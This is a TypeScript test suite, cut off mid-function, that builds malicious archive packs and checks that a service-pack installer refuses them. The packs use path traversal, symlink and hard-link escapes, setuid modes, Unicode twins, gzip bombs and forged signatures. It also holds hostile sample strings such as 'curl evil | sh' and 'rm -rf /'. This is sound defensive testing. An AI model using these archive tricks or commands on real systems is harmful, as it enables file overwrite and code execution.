/**
 * A corpus of hostile packs, generated here, each pushed through the real `servicepack install`
 * against a copy of the RTM x86 release tree. Every pack is a copy of the real SP6 x86 pack with one
 * thing broken, and (unless the case is about signatures) signed by a key the installation trusts:
 * the refusal must come from the archive rules, not from the signature. For each case: the exit
 * code and error code of docs/cli.md §5, a message that names the problem, the installation (including
 * .servicepack/) and a sentinel folder beside it unchanged to the byte, and no staging left.
 *
 * Most cases run in process through the installer's run(); a few spawn the real executable.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import type { Manifest } from '../packages/core/src/pack/manifest.js';
import { openPack } from '../packages/core/src/pack/open.js';
import { readPackDocument } from '../packages/core/src/pack/walk.js';
import { serializeManifest } from '../packages/core/src/pack/pack-write.js';
import { loadTrustedKeys } from '../packages/core/src/trust/trust.js';
import {
  BLOCK,
  cli,
  fixedKey,
  jsonDoc,
  type RawEntry,
  signatureFile,
  tarBytes,
  tgz,
  treeSnapshot,
} from './support/hostile.js';

const repo = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const rtmTree = join(repo, 'dist', 'releases', 'inetsrv-4.0-rtm-x86');
const sp6Tree = join(repo, 'dist', 'releases', 'inetsrv-4.0-sp6-x86');
const sp6Pack = join(repo, 'dist', 'packs', 'inetsrv-4.0-sp6-x86.tgz');
const devPub = join(repo, 'dist', 'keys', 'dev.pub');
const bin = join(repo, 'installer', 'bin', 'servicepack');

/** Trusted by the installations (through --trust): signs every structurally hostile pack. */
const K = fixedKey('hostile-packs: trusted');
/** Known to nobody. */
const STRANGER = fixedKey('hostile-packs: stranger');
/** Listed in the revoking installation's trust/revoked, and offered with --trust all the same. */
const REVOKED = fixedKey('hostile-packs: revoked');

let work: string;
let root: string;
let revokingRoot: string;
let sentinel: string;
let packsDir: string;
let trustFile: string;
let revokedTrustFile: string;
let n = 0;

let sp6: Manifest;
let payload: { path: string; data: Buffer; mode: number }[];
let eula: Buffer;

const snapshots = new Map<string, string[]>();

/** The transaction log (.servicepack/log/) is checked on its own: see refusalLogs. */
const isLog = (line: string): boolean => / \.servicepack\/log(\/|$)/.test(line);

async function state(r: string): Promise<string[]> {
  return [
    ...(await treeSnapshot(r)).filter((l) => !isLog(l)).map((l) => `root ${l}`),
    ...(await treeSnapshot(sentinel)).map((l) => `sentinel ${l}`),
    ...(await readdir(work)).sort().map((l) => `work ${l}`),
  ];
}

/**
 * A refusal found while staging leaves exactly one thing behind by design: the transaction's log,
 * `.servicepack/log/<txid>.jsonl` (core log.ts), whose last line must record the refusal. It is
 * checked and removed, so that every case starts from the same installation.
 */
async function refusalLogs(r: string, code: (c: string | undefined) => boolean, exitCode: number): Promise<number> {
  const dir = join(r, '.servicepack', 'log');
  if (!existsSync(dir)) return 0;
  const files = await readdir(dir);
  for (const f of files) {
    const lines = (await readFile(join(dir, f), 'utf8')).trim().split('\n');
    const last = JSON.parse(lines[lines.length - 1]!) as {
      event?: string;
      ok?: boolean;
      code?: string;
      exitCode?: number;
    };
    assert.equal(last.ok, false, `${f}: ${lines[lines.length - 1]}`);
    assert.ok(code(last.code), `${f}: ${lines[lines.length - 1]}`);
    assert.equal(last.exitCode, exitCode);
  }
  await rm(dir, { recursive: true });
  return files.length;
}

before(async () => {
  for (const p of [rtmTree, sp6Tree, sp6Pack, devPub, join(repo, 'installer', 'dist', 'cli.js')]) {
    if (!existsSync(p))
      throw new Error(`missing build output ${p}: run pnpm build (npx --yes pnpm@10.34.8 run build) first`);
  }
  work = await mkdtemp(join(tmpdir(), 'sp-hostile-'));
  root = join(work, 'inetsrv');
  revokingRoot = join(work, 'inetsrv-revoking');
  sentinel = join(work, 'sentinel');
  packsDir = join(work, 'packs');
  await cp(rtmTree, root, { recursive: true });
  await cp(rtmTree, revokingRoot, { recursive: true });
  await writeFile(join(revokingRoot, '.servicepack', 'trust', 'revoked'), `# compromised test key\n${REVOKED.keyid}\n`);
  await mkdir(join(sentinel, 'etc'), { recursive: true });
  await writeFile(join(sentinel, 'etc', 'passwd'), 'root:x:0:0:root:/root:/bin/sh\n');
  await writeFile(join(sentinel, 'secret'), 'do not overwrite\n');
  await mkdir(packsDir);
  await mkdir(join(work, 'keys'));
  trustFile = join(work, 'keys', 'trusted.pub');
  revokedTrustFile = join(work, 'keys', 'revoked.pub');
  await writeFile(trustFile, K.publicKeyPem);
  await writeFile(revokedTrustFile, REVOKED.publicKeyPem);

  // the real SP6 pack is the template: its manifest, its payload (from the SP6 release tree), its EULA
  const real = await openPack(sp6Pack, { trustedKeys: await loadTrustedKeys({ trustFiles: [devPub] }) });
  sp6 = real.manifest;
  eula = Buffer.from(await readPackDocument(real, 'EULA.txt'));
  payload = [];
  for (const f of sp6.files) {
    if (f.action === 'delete') continue;
    const data = await readFile(join(sp6Tree, f.path));
    payload.push({ path: f.path, data, mode: (f.mode ?? 0o644) & 0o111 ? 0o755 : 0o644 });
  }
  assert.ok(
    payload.some((p) => p.path === 'lib/server.js'),
    'SP6 replaces lib/server.js',
  );

  snapshots.set(root, await state(root));
  snapshots.set(revokingRoot, await state(revokingRoot));
});

after(async () => {
  if (work) await rm(work, { recursive: true, force: true });
});

// ---------------------------------------------------------------------------------------------
// Pack builders

const manifestBytesOf = (m: Manifest): Buffer => serializeManifest(m);
/** For manifests the canonical writer would refuse: the bytes are signed as they are. */
const rawJson = (value: unknown): Buffer => Buffer.from(`${JSON.stringify(value, null, 2)}\n`);

function head(manifestBytes: Buffer, keys = [K]): RawEntry[] {
  const entries: RawEntry[] = [{ name: 'servicepack.json', data: manifestBytes }];
  if (keys.length > 0) entries.push({ name: 'servicepack.sig', data: signatureFile(manifestBytes, keys) });
  return entries;
}

function payloadEntries(): RawEntry[] {
  return payload.map((p) => ({ name: `payload/${p.path}`, data: p.data, mode: p.mode }));
}

function body(): RawEntry[] {
  return [...payloadEntries(), { name: 'EULA.txt', data: eula }];
}

function file(path: string): Buffer {
  const p = payload.find((x) => x.path === path);
  if (!p) throw new Error(`no ${path} in SP6`);
  return p.data;
}

/** The SP6 pack, re-signed by K, with `extra` entries inserted after the payload. */
function withExtra(extra: RawEntry[], opts: { keys?: (typeof K)[]; manifest?: Buffer } = {}): Buffer {
  return tgz([
    ...head(opts.manifest ?? manifestBytesOf(sp6), opts.keys ?? [K]),
    ...payloadEntries(),
    ...extra,
    { name: 'EULA.txt', data: eula },
  ]);
}

/** The SP6 pack with the payload entry for `path` replaced by `entries` (none: left out). */
function replacing(path: string, entries: RawEntry[], manifest?: Buffer): Buffer {
  const out: RawEntry[] = [];
  for (const e of body()) out.push(...(e.name === `payload/${path}` ? entries : [e]));
  return tgz([...head(manifest ?? manifestBytesOf(sp6)), ...out]);
}

const sha256hex = (data: Buffer): string => createHash('sha256').update(data).digest('hex');

/** SP6 plus one added file, listed in a re-signed manifest. */
function sp6Adding(path: string, data: Buffer): Manifest {
  return {
    ...sp6,
    files: [...sp6.files, { path, action: 'add', sha256: sha256hex(data), size: data.length, mode: 0o644, from: [] }],
  };
}

function sp6Json(): Record<string, unknown> {
  return JSON.parse(manifestBytesOf(sp6).toString('utf8')) as Record<string, unknown>;
}

/** SP6 plus one added file, signed as raw JSON: for names the canonical manifest writer itself refuses. */
function sp6AddingRaw(path: string, data: Buffer): RawEntry[] {
  const m = sp6Json();
  (m['files'] as unknown[]).push({
    path,
    action: 'add',
    sha256: sha256hex(data),
    size: data.length,
    mode: 0o644,
    from: [],
  });
  return [...head(rawJson(m)), ...body(), { name: `payload/${path}`, data }];
}

/** SP6 whose own BUILDINFO.json (signed, hash and size in the manifest) has `service` changed. */
function sp6WithService(service: Record<string, unknown>): Buffer {
  const bi = { ...(JSON.parse(file('BUILDINFO.json').toString('utf8')) as Record<string, unknown>), service };
  const data = Buffer.from(`${JSON.stringify(bi, null, 2)}\n`);
  const m: Manifest = {
    ...sp6,
    files: sp6.files.map((f) =>
      f.path === 'BUILDINFO.json' ? { ...f, sha256: sha256hex(data), size: data.length } : f,
    ),
  };
  return replacing('BUILDINFO.json', [{ name: 'payload/BUILDINFO.json', data }], manifestBytesOf(m));
}

// ---------------------------------------------------------------------------------------------
// The corpus

interface Case {
  name: string;
  pack: () => Buffer;
  code: string;
  exit: number;
  message: RegExp;
  /** the installation that trusts K and revokes REVOKED (default: the plain one) */
  revoking?: true;
  args?: string[];
}

const UNSAFE = { code: 'E_UNSAFE_ARCHIVE', exit: 4 } as const;
const CORRUPT = { code: 'E_CORRUPT_ARCHIVE', exit: 4 } as const;
const HASH = { code: 'E_HASH_MISMATCH', exit: 4 } as const;
const MANIFEST = { code: 'E_INVALID_MANIFEST', exit: 2 } as const;
const BADSIG = { code: 'E_BAD_SIGNATURE', exit: 4 } as const;

const escapePath = '../../../../../../sentinel/pwned';

const cases: Case[] = [
  // -- paths
  {
    name: '"../" path',
    pack: () => withExtra([{ name: escapePath, data: 'x' }]),
    ...UNSAFE,
    message: /"\.\." segment/,
  },
  {
    name: '"../" after payload/',
    pack: () => withExtra([{ name: `payload/${escapePath}`, data: 'x' }]),
    ...UNSAFE,
    message: /"\.\." segment/,
  },
  {
    name: 'absolute path',
    pack: () => withExtra([{ name: `${sentinel}/secret`, data: 'pwned' }]),
    ...UNSAFE,
    message: /absolute path/,
  },
  {
    name: 'absolute path in a PAX header',
    pack: () => withExtra([{ name: 'payload/lib/harmless.js', pax: { path: `${sentinel}/secret` }, data: 'pwned' }]),
    ...UNSAFE,
    message: /absolute path/,
  },
  {
    name: '"../" in a PAX header',
    pack: () => withExtra([{ name: 'payload/lib/harmless.js', pax: { path: `payload/${escapePath}` }, data: 'x' }]),
    ...UNSAFE,
    message: /"\.\." segment/,
  },
  {
    name: '"../" through the ustar prefix field',
    pack: () => withExtra([{ name: 'sentinel/pwned', prefix: 'payload/../../../../../..', data: 'x' }]),
    ...UNSAFE,
    message: /"\.\." segment/,
  },
  {
    name: 'backslashes',
    pack: () => withExtra([{ name: 'payload\\..\\..\\..\\sentinel\\pwned', data: 'x' }]),
    ...UNSAFE,
    message: /backslash/,
  },
  {
    name: 'drive-relative path',
    pack: () => withExtra([{ name: 'C:../../sentinel/pwned', data: 'x' }]),
    ...UNSAFE,
    message: /drive letter/,
  },
  {
    name: 'drive letter and backslashes',
    pack: () => withExtra([{ name: 'C:\\Windows\\System32\\pwned.dll', data: 'x' }]),
    ...UNSAFE,
    message: /backslash|drive letter/,
  },
  {
    name: 'control character in a name',
    pack: () => withExtra([{ name: 'payload/lib/\x1b[2Jserver.js', data: 'x' }]),
    ...UNSAFE,
    message: /control character/,
  },
  {
    name: 'C1 control character (CSI) in a name',
    pack: () => withExtra([{ name: 'payload/lib/x\u009b2J.js', data: 'x' }]),
    ...UNSAFE,
    message: /control character/,
  },
  {
    name: 'C1 control character (CSI) in a signed manifest path',
    pack: () => tgz(sp6AddingRaw('lib/x\u009b2J.js', Buffer.from('x\n'))),
    ...MANIFEST,
    message: /control character/,
  },
  {
    name: 'bidirectional override in a signed manifest path',
    pack: () => tgz(sp6AddingRaw('lib/\u202esj.exe.js', Buffer.from('x\n'))),
    ...MANIFEST,
    message: /bidirectional control/,
  },
  {
    name: 'line separator in a signed manifest path',
    pack: () => tgz(sp6AddingRaw('lib/a\u2028b.js', Buffer.from('x\n'))),
    ...MANIFEST,
    message: /line separator/,
  },
  {
    name: 'alternate data stream',
    pack: () => withExtra([{ name: 'payload/lib/server.js:evil', data: 'x' }]),
    ...UNSAFE,
    message: /colon/,
  },
  {
    name: 'Windows device name',
    pack: () => withExtra([{ name: 'payload/lib/CON', data: 'x' }]),
    ...UNSAFE,
    message: /reserved device name/,
  },
  {
    name: 'Windows console device name',
    pack: () => withExtra([{ name: 'payload/lib/CONOUT$.js', data: 'x' }]),
    ...UNSAFE,
    message: /reserved device name/,
  },
  {
    name: 'trailing dot (a Windows twin)',
    pack: () => withExtra([{ name: 'payload/lib/server.js.', data: 'x' }]),
    ...UNSAFE,
    message: /ending in a dot/,
  },

  // -- links and special files
  {
    name: 'symlink inside the payload',
    pack: () => withExtra([{ name: 'payload/lib/link.js', type: '2', linkname: 'server.js' }]),
    ...UNSAFE,
    message: /symbolic link/,
  },
  {
    name: 'symlink escaping',
    pack: () => withExtra([{ name: 'payload/lib/link.js', type: '2', linkname: `${sentinel}/secret` }]),
    ...UNSAFE,
    message: /symbolic link/,
  },
  {
    name: 'symlink folder, then a file through it',
    pack: () =>
      tgz([
        ...head(manifestBytesOf(sp6)),
        { name: 'payload/lib', type: '2', linkname: '../../../../../sentinel' },
        ...body(),
      ]),
    ...UNSAFE,
    message: /symbolic link/,
  },
  {
    name: 'hard link inside the payload',
    pack: () => withExtra([{ name: 'payload/lib/hl.js', type: '1', linkname: 'payload/lib/server.js' }]),
    ...UNSAFE,
    message: /hard link/,
  },
  {
    name: 'hard link escaping',
    pack: () => withExtra([{ name: 'payload/lib/hl.js', type: '1', linkname: '../../../../../sentinel/secret' }]),
    ...UNSAFE,
    message: /hard link/,
  },
  {
    name: 'character device',
    pack: () => withExtra([{ name: 'payload/lib/null', type: '3' }]),
    ...UNSAFE,
    message: /character device/,
  },
  {
    name: 'block device',
    pack: () => withExtra([{ name: 'payload/lib/sda', type: '4' }]),
    ...UNSAFE,
    message: /block device/,
  },
  { name: 'FIFO', pack: () => withExtra([{ name: 'payload/lib/fifo', type: '6' }]), ...UNSAFE, message: /FIFO/ },
  {
    name: 'contiguous file (type 7)',
    pack: () => withExtra([{ name: 'payload/lib/c.js', type: '7', data: 'x' }]),
    ...UNSAFE,
    message: /type "7"/,
  },
  {
    name: 'GNU long name record',
    pack: () =>
      withExtra([
        { name: '././@LongLink', type: 'L', data: `payload/${'a/'.repeat(60)}x\0` },
        { name: 'payload/x', data: 'x' },
      ]),
    ...UNSAFE,
    message: /GNU long name/,
  },
  {
    name: 'GNU long link record',
    pack: () =>
      withExtra([
        { name: '././@LongLink', type: 'K', data: `${sentinel}/secret\0` },
        { name: 'payload/lib/l', type: '2' },
      ]),
    ...UNSAFE,
    message: /GNU long name/,
  },
  {
    name: 'global PAX header',
    pack: () => withExtra([{ name: 'pax_global_header', type: 'g', data: paxLine('path', escapePath) }]),
    ...UNSAFE,
    message: /global PAX header/,
  },
  {
    name: 'PAX linkpath on a file',
    pack: () =>
      replacing('lib/server.js', [
        { name: 'payload/lib/server.js', pax: { linkpath: `${sentinel}/secret` }, data: file('lib/server.js') },
      ]),
    ...UNSAFE,
    message: /PAX key linkpath/,
  },
  {
    name: 'PAX sparse map',
    pack: () =>
      replacing('lib/server.js', [
        { name: 'payload/lib/server.js', pax: { 'GNU.sparse.map': '0,1' }, data: file('lib/server.js') },
      ]),
    ...UNSAFE,
    message: /PAX key GNU\.sparse\.map/,
  },

  // -- modes
  {
    name: 'setuid',
    pack: () =>
      replacing('lib/server.js', [{ name: 'payload/lib/server.js', mode: 0o4755, data: file('lib/server.js') }]),
    ...UNSAFE,
    message: /setuid, setgid or sticky/,
  },
  {
    name: 'setgid',
    pack: () =>
      replacing('lib/server.js', [{ name: 'payload/lib/server.js', mode: 0o2755, data: file('lib/server.js') }]),
    ...UNSAFE,
    message: /setuid, setgid or sticky/,
  },
  {
    name: 'sticky',
    pack: () =>
      replacing('lib/server.js', [{ name: 'payload/lib/server.js', mode: 0o1644, data: file('lib/server.js') }]),
    ...UNSAFE,
    message: /setuid, setgid or sticky/,
  },
  {
    name: 'setuid asked for by the signed manifest',
    pack: () => {
      const m = sp6Json();
      (m['files'] as Record<string, unknown>[]).find((f) => f['path'] === 'lib/server.js')!['mode'] = 0o4755;
      return withExtra([], { manifest: rawJson(m) });
    },
    ...MANIFEST,
    message: /files\.\d+\.mode/,
  },

  // -- duplicates and twins
  {
    name: 'duplicate entry',
    pack: () => withExtra([{ name: 'payload/lib/server.js', data: file('lib/server.js') }]),
    ...UNSAFE,
    message: /duplicate entry payload\/lib\/server\.js/,
  },
  {
    name: 'case-folding twin',
    pack: () => withExtra([{ name: 'payload/lib/Server.js', data: file('lib/server.js') }]),
    ...UNSAFE,
    message: /name the same file/,
  },
  {
    name: 'Unicode normalisation twin (NFC/NFD)',
    pack: () => {
      const data = Buffer.from('export const cafe = 1;\n');
      const nfc = 'lib/caf\u00e9.js';
      return tgz([
        ...head(manifestBytesOf(sp6Adding(nfc, data))),
        ...body(),
        { name: `payload/${nfc}`, data },
        { name: `payload/${nfc.normalize('NFD')}`, data },
      ]);
    },
    ...UNSAFE,
    // the two spellings look alike on a terminal: the message must show how they differ
    message: /"payload\/lib\/cafe\\u0301\.js" and "payload\/lib\/caf\\u00e9\.js" name the same file/,
  },
  {
    name: 'full case folding twin (ß / SS)',
    pack: () => {
      const data = Buffer.from('export const s = 1;\n');
      return tgz([
        ...head(manifestBytesOf(sp6Adding('lib/stra\u00dfe.js', data))),
        ...body(),
        { name: 'payload/lib/stra\u00dfe.js', data },
        { name: 'payload/lib/STRASSE.js', data },
      ]);
    },
    ...UNSAFE,
    message: /payload\/lib\/STRASSE\.js and "payload\/lib\/stra\\u00dfe\.js" name the same file/,
  },
  {
    name: 'a second servicepack.json later on',
    pack: () => withExtra([{ name: 'servicepack.json', data: '{}' }]),
    ...UNSAFE,
    message: /duplicate entry servicepack\.json/,
  },
  {
    name: 'manifest listing case twins',
    pack: () => {
      const data = Buffer.from('x\n');
      const m = sp6Json();
      const entry = {
        path: 'lib/twin.js',
        action: 'add',
        sha256: sha256hex(data),
        size: data.length,
        mode: 0o644,
        from: [],
      };
      (m['files'] as unknown[]).push(entry, { ...entry, path: 'lib/TWIN.js' });
      return withExtra([], { manifest: rawJson(m) });
    },
    ...MANIFEST,
    message: /duplicate path lib\/TWIN\.js/,
  },
  {
    name: 'manifest listing NFC/NFD twins',
    pack: () => {
      const data = Buffer.from('x\n');
      const m = sp6Json();
      const entry = {
        path: 'lib/caf\u00e9.js',
        action: 'add',
        sha256: sha256hex(data),
        size: data.length,
        mode: 0o644,
        from: [],
      };
      (m['files'] as unknown[]).push(entry, { ...entry, path: entry.path.normalize('NFD') });
      return withExtra([], { manifest: rawJson(m) });
    },
    ...MANIFEST,
    message: /duplicate path/,
  },

  // -- the manifest's list is the only list
  {
    name: 'entry not listed in the manifest',
    pack: () => withExtra([{ name: 'payload/lib/backdoor.js', data: 'require("child_process")' }]),
    ...UNSAFE,
    message: /payload\/lib\/backdoor\.js is not listed/,
  },
  {
    name: 'unlisted top-level file',
    pack: () => withExtra([{ name: 'install.sh', data: 'rm -rf /' }]),
    ...UNSAFE,
    message: /install\.sh is not listed/,
  },
  {
    name: 'unlisted folder',
    pack: () => withExtra([{ name: 'payload/cron.d/', type: '5' }]),
    ...UNSAFE,
    message: /folder payload\/cron\.d is not part of the manifest/,
  },
  {
    name: 'listed file missing',
    pack: () => replacing('lib/server.js', []),
    ...CORRUPT,
    message: /missing \(payload\/lib\/server\.js\)/,
  },
  {
    name: 'listed document missing',
    pack: () => tgz([...head(manifestBytesOf(sp6)), ...payloadEntries()]),
    ...CORRUPT,
    message: /missing \(EULA\.txt\)/,
  },

  // -- sizes and contents
  {
    name: 'size mismatch',
    pack: () =>
      replacing('lib/server.js', [
        { name: 'payload/lib/server.js', data: Buffer.concat([file('lib/server.js'), Buffer.from('\n//x')]) },
      ]),
    ...HASH,
    message: /5091 bytes in the archive but 5087 in the manifest/,
  },
  {
    name: 'content mismatch, same size',
    pack: () => {
      const d = Buffer.from(file('lib/server.js'));
      d[100] = d[100]! ^ 0x20;
      return replacing('lib/server.js', [{ name: 'payload/lib/server.js', data: d }]);
    },
    ...HASH,
    message: /lib\/server\.js does not match the sha256/,
  },
  {
    name: 'huge declared size (octal)',
    pack: () =>
      replacing('lib/server.js', [{ name: 'payload/lib/server.js', size: 0o77777777777, data: file('lib/server.js') }]),
    ...HASH,
    message: /8589934591 bytes in the archive/,
  },
  {
    name: 'huge declared size (PAX)',
    pack: () =>
      replacing('lib/server.js', [
        { name: 'payload/lib/server.js', pax: { size: String(2 ** 40) }, data: file('lib/server.js') },
      ]),
    ...HASH,
    message: /1099511627776 bytes in the archive/,
  },
  {
    name: 'base-256 size field',
    pack: () => {
      const size = Buffer.alloc(12);
      size[0] = 0x80;
      size.writeUInt32BE(file('lib/server.js').length, 8);
      return replacing('lib/server.js', [{ name: 'payload/lib/server.js', size, data: file('lib/server.js') }]);
    },
    ...UNSAFE,
    message: /base-256 size/,
  },
  {
    name: 'signed manifest declares a huge file the archive does not hold',
    pack: () => {
      const m: Manifest = {
        ...sp6,
        files: sp6.files.map((f) => (f.path === 'lib/server.js' ? { ...f, size: 2 ** 40 } : f)),
      };
      return replacing(
        'lib/server.js',
        [{ name: 'payload/lib/server.js', pax: { size: String(2 ** 40) }, data: file('lib/server.js') }],
        manifestBytesOf(m),
      );
    },
    ...CORRUPT,
    message: /archive ends inside a file/,
  },
  {
    name: 'gzip bomb (64 MiB of zeros after the end marker)',
    pack: () =>
      gzipSync(tarBytes([...head(manifestBytesOf(sp6)), ...body()], { trailer: Buffer.alloc(64 * 1024 * 1024) }), {
        level: 9,
      }),
    ...UNSAFE,
    message: /more data than its manifest accounts for|decompression ratio/,
  },
  {
    name: 'gzip bomb in the head (64 MiB manifest, before any signature)',
    pack: () =>
      gzipSync(tarBytes([{ name: 'servicepack.json', data: Buffer.alloc(64 * 1024 * 1024, 0x20) }]), { level: 9 }),
    ...UNSAFE,
    message: /servicepack\.json is 67108864 bytes \(limit 4194304\)/,
  },

  // -- archive structure
  {
    name: 'truncated archive (gzip cut inside the payload)',
    pack: () => {
      const whole = withExtra([]);
      return whole.subarray(0, Math.floor(whole.length * 0.7));
    },
    ...CORRUPT,
    message: /not a complete gzip file|archive ends/,
  },
  {
    name: 'truncated archive (tar cut, valid gzip)',
    pack: () => gzipSync(tarBytes([...head(manifestBytesOf(sp6)), ...body()]).subarray(0, 6 * BLOCK + 100)),
    ...CORRUPT,
    message: /archive ends inside/,
  },
  {
    name: 'no end-of-archive marker',
    pack: () => gzipSync(tarBytes([...head(manifestBytesOf(sp6)), ...body()], { end: false })),
    ...CORRUPT,
    message: /without an end-of-archive marker/,
  },
  {
    name: 'hidden entry after the end marker',
    pack: () =>
      gzipSync(
        tarBytes([...head(manifestBytesOf(sp6)), ...body()], {
          trailer: tarBytes([{ name: 'payload/lib/backdoor.js', data: 'x' }]),
        }),
      ),
    ...UNSAFE,
    message: /data after the end-of-archive marker/,
  },
  {
    name: 'second gzip member appended',
    pack: () => Buffer.concat([withExtra([]), gzipSync(tarBytes([{ name: 'payload/lib/backdoor.js', data: 'x' }]))]),
    ...UNSAFE,
    message: /data after the end-of-archive marker/,
  },
  {
    name: 'manifest not first',
    pack: () => tgz([payloadEntries()[0]!, ...head(manifestBytesOf(sp6)), ...body().slice(1)]),
    ...CORRUPT,
    message: /not a servicepack pack \(no manifest servicepack\.json as its first entry/,
  },
  {
    name: 'signature before the manifest',
    pack: () => {
      const [m, s] = head(manifestBytesOf(sp6));
      return tgz([s!, m!, ...body()]);
    },
    ...CORRUPT,
    message: /not a servicepack pack \(no manifest servicepack\.json as its first entry/,
  },
  {
    name: 'not gzip (a plain tar)',
    pack: () => tarBytes([...head(manifestBytesOf(sp6)), ...body()]),
    ...CORRUPT,
    message: /not a gzip file \(it is an uncompressed tar\)/,
  },
  {
    name: 'not a POSIX ustar header (GNU magic)',
    pack: () => {
      const [m, ...rest] = head(manifestBytesOf(sp6));
      return tgz([{ ...m!, magic: 'ustar  \0' }, ...rest, ...body()]);
    },
    ...CORRUPT,
    message: /not a POSIX ustar header/,
  },
  {
    name: 'bad header checksum',
    pack: () =>
      replacing('lib/server.js', [{ name: 'payload/lib/server.js', data: file('lib/server.js'), badChecksum: true }]),
    ...CORRUPT,
    message: /header checksum mismatch/,
  },

  // -- the manifest
  {
    name: 'unknown manifest key',
    pack: () => withExtra([], { manifest: rawJson({ ...sp6Json(), postInstall: 'curl evil | sh' }) }),
    ...MANIFEST,
    message: /postInstall/,
  },
  {
    name: 'unknown key in a file entry',
    pack: () => {
      const m = sp6Json();
      (m['files'] as Record<string, unknown>[])[0]!['owner'] = 0;
      return withExtra([], { manifest: rawJson(m) });
    },
    ...MANIFEST,
    message: /owner/,
  },
  {
    name: 'unsafe path in the signed manifest',
    pack: () => {
      const m = sp6Json();
      (m['files'] as Record<string, unknown>[])[0]!['path'] = '../../etc/cron.d/pwned';
      return withExtra([], { manifest: rawJson(m) });
    },
    ...MANIFEST,
    message: /"\.\." segment in path/,
  },
  {
    name: 'signed manifest that is not JSON',
    pack: () => withExtra([], { manifest: Buffer.from('format: 1\nid: yaml?\n') }),
    ...MANIFEST,
    message: /not valid UTF-8 JSON/,
  },
  {
    name: 'manifest over the size cap',
    pack: () => {
      const big = Buffer.concat([manifestBytesOf(sp6), Buffer.alloc(4 * 1024 * 1024, 0x20)]);
      return withExtra([], { manifest: big });
    },
    ...UNSAFE,
    message: /servicepack\.json is \d+ bytes \(limit 4194304\)/,
  },

  // -- the BUILDINFO.json a pack ships: judged by the rules it is read back with
  {
    name: 'signed BUILDINFO.json whose pid file leaves the installation',
    pack: () => sp6WithService({ pidFile: '../../../tmp/x', start: ['bin/inetsrv', 'start', '--detach'] }),
    ...MANIFEST,
    message: /BUILDINFO\.json is not a valid BUILDINFO record.*service\.pidFile "\.\.\/\.\.\/\.\.\/tmp\/x"/s,
  },
  {
    name: 'signed BUILDINFO.json whose absolute pid file is outside the installation',
    pack: () => sp6WithService({ pidFile: '/run/sshd.pid', start: ['bin/inetsrv', 'start', '--detach'] }),
    ...MANIFEST,
    message: /service\.pidFile "\/run\/sshd\.pid"/,
  },
  {
    name: 'signed BUILDINFO.json whose start program is outside the installation',
    pack: () => sp6WithService({ pidFile: 'run/inetsrv.pid', start: ['bin/../../../usr/bin/env', 'sh'] }),
    ...MANIFEST,
    message: /service\.start "bin\/\.\.\/\.\.\/\.\.\/usr\/bin\/env"/,
  },

  // -- signatures
  {
    name: 'signed by an unknown key',
    pack: () => withExtra([], { keys: [STRANGER] }),
    code: 'E_UNTRUSTED_KEY',
    exit: 4,
    message: new RegExp(`does not trust \\(${STRANGER.keyid}\\)`),
  },
  {
    name: 'signed by a revoked key',
    pack: () => withExtra([], { keys: [REVOKED] }),
    code: 'E_UNTRUSTED_KEY',
    exit: 4,
    message: new RegExp(`only by revoked key\\(s\\) ${REVOKED.keyid}`),
    revoking: true,
    args: ['--trust', '@revoked'],
  },
  {
    name: 'revoked key, even with --allow-unsigned',
    pack: () => withExtra([], { keys: [REVOKED] }),
    code: 'E_UNTRUSTED_KEY',
    exit: 4,
    message: /revoked/,
    revoking: true,
    args: ['--allow-unsigned'],
  },
  {
    name: 'no signature',
    pack: () => withExtra([], { keys: [] }),
    code: 'E_UNSIGNED',
    exit: 4,
    message: /is not signed/,
  },
  {
    name: 'manifest changed after signing',
    pack: () => {
      const signed = manifestBytesOf(sp6);
      const changed = Buffer.from(signed.toString('utf8').replace('"restart": true', '"restart": false'));
      assert.notDeepEqual(changed, signed);
      return tgz([
        { name: 'servicepack.json', data: changed },
        { name: 'servicepack.sig', data: signatureFile(signed, [K]) },
        ...body(),
      ]);
    },
    ...BADSIG,
    message: new RegExp(`signature by trusted key ${K.keyid} does not match`),
  },
  {
    name: 'signature file not JSON',
    pack: () =>
      tgz([
        { name: 'servicepack.json', data: manifestBytesOf(sp6) },
        { name: 'servicepack.sig', data: 'not json' },
        ...body(),
      ]),
    ...BADSIG,
    message: /servicepack\.sig .* is not valid JSON/,
  },
  {
    name: 'signature file with an unknown key',
    pack: () => {
      const mb = manifestBytesOf(sp6);
      const sig = JSON.parse(signatureFile(mb, [K]).toString()) as Record<string, unknown>;
      return tgz([
        { name: 'servicepack.json', data: mb },
        { name: 'servicepack.sig', data: JSON.stringify({ ...sig, threshold: 0 }) },
        ...body(),
      ]);
    },
    ...BADSIG,
    message: /servicepack\.sig .* is malformed/,
  },
  {
    name: '17 signatures',
    pack: () => {
      const mb = manifestBytesOf(sp6);
      const keys = Array.from({ length: 17 }, (_, i) => fixedKey(`hostile-packs: many ${i}`));
      return tgz([
        { name: 'servicepack.json', data: mb },
        { name: 'servicepack.sig', data: signatureFile(mb, [K, ...keys.slice(1)]) },
        ...body(),
      ]);
    },
    ...BADSIG,
    message: /servicepack\.sig .* is malformed/,
  },
  {
    name: 'signature file over 64 KiB',
    pack: () =>
      tgz([
        { name: 'servicepack.json', data: manifestBytesOf(sp6) },
        { name: 'servicepack.sig', data: Buffer.alloc(65 * 1024, 0x20) },
        ...body(),
      ]),
    ...UNSAFE,
    message: /servicepack\.sig is 66560 bytes/,
  },
  {
    name: 'unsigned symlink pack with --allow-unsigned: the archive rules still hold',
    pack: () => withExtra([{ name: 'payload/lib/link.js', type: '2', linkname: `${sentinel}/secret` }], { keys: [] }),
    ...UNSAFE,
    message: /symbolic link/,
    args: ['--allow-unsigned'],
  },
];

function paxLine(key: string, value: string): string {
  const body = ` ${key}=${value}\n`;
  let len = body.length + 1;
  while (String(len).length + body.length !== len) len = String(len).length + body.length;
  return `${len}${body}`;
}

/** 20 single-bit flips spread over the compressed pack (skipping the gzip header's free bytes 4-9). */
function bitFlipCases(): Case[] {
  const out: Case[] = [];
  for (let i = 0; i < 20; i++) {
    out.push({
      name: `bit flip ${i + 1}/20`,
      pack: () => {
        const whole = Buffer.from(withExtra([]));
        // mtime, extra flags and OS id of the gzip header are not covered by any check: flipping them changes nothing
        const span = whole.length - 20;
